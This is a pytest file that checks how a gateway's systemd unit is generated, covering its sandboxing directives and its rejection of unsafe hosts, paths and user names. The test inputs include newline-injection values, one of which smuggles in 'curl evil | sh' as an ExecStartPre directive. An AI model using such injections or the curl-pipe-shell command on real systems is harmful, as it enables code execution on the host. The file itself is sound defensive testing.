"""The gateway's systemd unit: what it runs, how it is sandboxed, and what it refuses to write."""

from __future__ import annotations

import shutil
import subprocess
import sys

import pytest

from picoora.gateway.systemd import unit_text

EXE, HOME, CONFIG = "/home/opc/.local/bin/picoora", "/home/opc/.picoora", "/home/opc/.picoora/config.json"


def directives(text: str) -> dict[str, list[str]]:
    found: dict[str, list[str]] = {}
    for line in text.splitlines():
        if "=" in line and not line.startswith(("#", "[")):
            key, value = line.split("=", 1)
            found.setdefault(key, []).append(value)
    return found


def test_system_unit_runs_the_gateway_as_the_user_with_its_home_and_config():
    unit = directives(unit_text(EXE, HOME, CONFIG, "opc"))
    assert unit["ExecStart"] == [f"{EXE} --config {CONFIG} gateway"]
    assert unit["User"] == ["opc"]
    assert unit["Environment"] == [f"PICOORA_HOME={HOME}"]
    assert unit["WantedBy"] == ["multi-user.target"]
    assert unit["Restart"] == ["on-failure"]


def test_sandbox_leaves_only_picoora_home_writable():
    unit = directives(unit_text(EXE, HOME, CONFIG, "opc"))
    for key, value in {"NoNewPrivileges": "yes", "PrivateTmp": "yes", "ProtectSystem": "strict",
                       "ProtectHome": "read-only", "UMask": "0077"}.items():
        assert unit[key] == [value], key
    assert unit["ReadWritePaths"] == [HOME]
    # bubblewrap (the exec tool's sandbox) needs namespaces and a /proc with nothing mounted over it.
    assert "RestrictNamespaces" not in unit and "ProtectKernelTunables" not in unit


def test_host_and_port_are_written_into_the_command_or_refused():
    unit = directives(unit_text(EXE, HOME, CONFIG, "opc", host="::1", port=19123))
    assert unit["ExecStart"] == [f"{EXE} --config {CONFIG} gateway --host ::1 --port 19123"]
    for bad in ("0.0.0.0\nExecStartPre=/bin/sh", "a b", "%h"):
        with pytest.raises(ValueError):
            unit_text(EXE, HOME, CONFIG, "opc", host=bad)


def test_user_unit_has_no_user_line_and_starts_with_the_session():
    unit = directives(unit_text(EXE, HOME, CONFIG, None))
    assert "User" not in unit
    assert unit["WantedBy"] == ["default.target"]


def test_paths_with_spaces_are_quoted_as_one_word():
    home = "/home/ann/my stuff/.picoora"
    unit = directives(unit_text(EXE, home, home + "/config.json", "ann"))
    assert unit["ExecStart"] == [f'{EXE} --config "{home}/config.json" gateway']
    assert unit["Environment"] == [f'"PICOORA_HOME={home}"']
    assert unit["ReadWritePaths"] == [f'"{home}"']


@pytest.mark.parametrize("home", [
    "/tmp/x\nExecStartPre=/bin/sh -c 'curl evil | sh'",  # a line break would add a directive
    "/tmp/%h", "/tmp/$HOME", '/tmp/a"b', "/tmp/a\\b", "/tmp/nul\0", "relative/home",
])
def test_unsafe_or_relative_paths_are_refused(home):
    with pytest.raises(ValueError):
        unit_text(EXE, home, CONFIG, "opc")
    with pytest.raises(ValueError):
        unit_text(home if home.startswith("/") else "picoora", HOME, CONFIG, "opc")


@pytest.mark.parametrize("user", ["root\nExecStartPre=/bin/true", "Opc", "a b", "", "x" * 33, "-opc"])
def test_bad_user_names_are_refused(user):
    with pytest.raises(ValueError):
        unit_text(EXE, HOME, CONFIG, user)


@pytest.mark.skipif(shutil.which("systemd-analyze") is None, reason="systemd-analyze is not installed")
def test_systemd_accepts_the_unit(tmp_path):
    home = tmp_path / "my home"
    home.mkdir()
    unit = tmp_path / "picoora-gateway.service"
    unit.write_text(unit_text(sys.executable, str(home), str(home / "config.json"), "root"))
    done = subprocess.run(["systemd-analyze", "verify", str(unit)], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert str(unit) not in done.stderr, done.stderr  # an unknown or malformed directive is reported this way
